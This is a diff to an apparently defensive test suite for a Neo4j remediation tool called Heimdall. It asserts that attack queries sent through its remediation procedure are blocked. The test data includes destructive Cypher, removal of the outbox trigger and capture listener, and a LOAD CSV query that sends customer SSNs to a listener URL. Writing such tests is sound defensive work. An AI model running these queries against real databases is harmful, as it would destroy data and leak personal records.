@@ -41,7 +41,7 @@ interface Snapshot {
   customers: number;
   auditNodes: number;
   seq: number;
-  trigger: boolean;
+  capture: string;
 }
 const snapshot = async (): Promise<Snapshot> => ({
   victims: await one('MATCH (n:Victim) RETURN count(n)'),
@@ -49,8 +49,16 @@ const snapshot = async (): Promise<Snapshot> => ({
   customers: await one('MATCH (n:Customer) RETURN count(n)'),
   auditNodes: await one('MATCH (a:HeimdallAudit) RETURN count(a)'),
   seq: await one("MATCH (c:HeimdallOutboxSeq {name: 'outbox'}) RETURN c.value"),
-  trigger: (await loadedTriggers(driver)).includes('heimdall_outbox'),
+  capture: await captureInPlace(),
 });
+
+/** What writes the outbox: the APOC trigger, the listener of Heimdall's extension (the default capture, auto, installs it on a fresh database), or nothing. */
+async function captureInPlace(): Promise<string> {
+  const trigger = (await loadedTriggers(driver)).includes('heimdall_outbox');
+  const listener = (await driver.executeQuery('CALL heimdall.capture.status() YIELD installed RETURN installed', {}, { database: 'neo4j' })).records[0]!.get('installed') as boolean;
+  return [trigger ? 'trigger' : '', listener ? 'listener' : ''].filter(Boolean).join('+') || 'nothing';
+}
+let captureAtStart = '';
 
 /**
  * Nothing the attack aimed at changed. The audit mirror and the outbox sequence only grow (each
@@ -59,7 +67,7 @@ const snapshot = async (): Promise<Snapshot> => ({
  */
 async function assertIntact(before: Snapshot): Promise<void> {
   const now = await snapshot();
-  assert.deepEqual({ victims: now.victims, victimRels: now.victimRels, customers: now.customers, trigger: now.trigger }, { victims: before.victims, victimRels: before.victimRels, customers: before.customers, trigger: true });
+  assert.deepEqual({ victims: now.victims, victimRels: now.victimRels, customers: now.customers, capture: now.capture }, { victims: before.victims, victimRels: before.victimRels, customers: before.customers, capture: captureAtStart });
   assert.ok(now.auditNodes >= before.auditNodes, `audit mirror nodes ${before.auditNodes} → ${now.auditNodes}`);
   assert.ok(now.seq >= before.seq, `the outbox sequence moved backwards: ${before.seq} → ${now.seq}`);
 }
@@ -103,6 +111,8 @@ before(async () => {
       // strict: the counter moves with every commit, so an attack that sets the sequence back would show.
       'sources:\n  - type: neo4j-apoc\n    pollIntervalMs: 20\n    ordering: strict',
       `audit:\n  path: ${JSON.stringify(auditFile)}\n  graph: true`,
+      // An operator's allowlist cannot open Heimdall's own capture procedures: NEVER wins (a warning says it is ignored).
+      "remediation:\n  allowProcedures: ['heimdall.capture.*']",
       llmYaml(llm),
     ].join('\n'),
   );
@@ -113,6 +123,8 @@ before(async () => {
   });
   await waitFor('the neo4j-apoc source running', () => d.api.status().sources.some((s) => s.name === 'neo4j-apoc' && s.state === 'running'), 60_000);
   assert.equal(await d.internals.executor!.guard.ensure('neo4j', 30_000), true, 'the commit guard is loaded');
+  captureAtStart = await captureInPlace();
+  assert.equal(captureAtStart, 'listener', 'the default capture (auto) put the listener in place on this fresh database');
   await driver.executeQuery("UNWIND range(1, 5) AS i CREATE (:Victim {i: i})-[:OWNS]->(:Thing {i: i})", {}, { database: 'neo4j' });
   await driver.executeQuery("UNWIND range(1, 3) AS i CREATE (:Customer {id: i, ssn: '078-05-112' + i})", {}, { database: 'neo4j' });
   // A legitimate remediation first: it commits (guard and outbox side by side) and leaves audit entries mirrored as HeimdallAudit nodes.
@@ -151,6 +163,7 @@ describe('attacks through heimdall.remediate.cypher', () => {
     ['apoc.nodes.delete', 'MATCH (n:Victim) WITH collect(n) AS ns CALL apoc.nodes.delete(ns, 1) YIELD value RETURN value', /procedure.*apoc\.nodes\.delete/],
     ['a FOREACH over every audit mirror node', 'MATCH (a:HeimdallAudit) FOREACH (x IN [a] | DETACH DELETE x)', /heimdall-state/],
     ["apoc.trigger.remove('heimdall_outbox')", "CALL apoc.trigger.remove('heimdall_outbox')", /procedure.*apoc\.trigger\.remove/],
+    ['heimdall.capture.uninstall()', 'CALL heimdall.capture.uninstall()', /procedure.*heimdall\.capture\.uninstall/],
     ['SET on the outbox sequence', 'MATCH (s:HeimdallOutboxSeq) SET s.value = 5', /heimdall-state/],
     ['LOAD CSV sending an SSN out', `MATCH (c:Customer) LOAD CSV FROM '${listenerUrl}/w?ssn=' + c.ssn AS l RETURN l`, /load-csv/],
     ['CALL { } IN TRANSACTIONS', 'MATCH (n:Victim) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 1 ROWS', /in-transactions/],
@@ -230,7 +243,7 @@ describe('after every attack', () => {
     const before = await seen();
     await driver.executeQuery("CREATE (:AfterAttacks {at: 'end'})", {}, { database: 'neo4j' });
     await waitFor('the node.created event of the new node', async () => (await seen()) > before, 20_000);
-    assert.equal((await snapshot()).trigger, true);
+    assert.equal((await snapshot()).capture, captureAtStart);
     assert.deepEqual(hits, []);
   });
 });
